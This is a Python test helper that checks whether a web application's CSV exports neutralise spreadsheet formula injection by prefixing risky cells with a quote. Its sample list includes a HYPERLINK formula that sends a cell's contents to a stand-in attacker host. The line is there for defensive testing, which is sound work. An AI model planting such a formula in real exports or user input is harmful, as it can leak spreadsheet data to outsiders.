"""Checks for CSV exports: text a spreadsheet would run as a formula comes out neutralised."""

import csv
import io

# What people and editors could type into a name, a job title, an explanation or a title.
FORMULAS = ['=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")', "+1", "-1", "@SUM(A1:A9)"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode("utf-8-sig")


def assert_formulas_neutralised(
    response, *, delimiter: str = ",", formulas=FORMULAS
) -> list[list[str]]:
    """Every formula of ``formulas`` is in the file as text (a leading ``'``), and no cell
    below the headings starts like a formula. Returns the rows."""
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(csv_body(response)), delimiter=delimiter))
    cells = [cell for row in rows[1:] for cell in row]
    for formula in formulas:
        assert f"'{formula}" in cells, (formula, rows)
    raw = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not raw, raw
    return rows
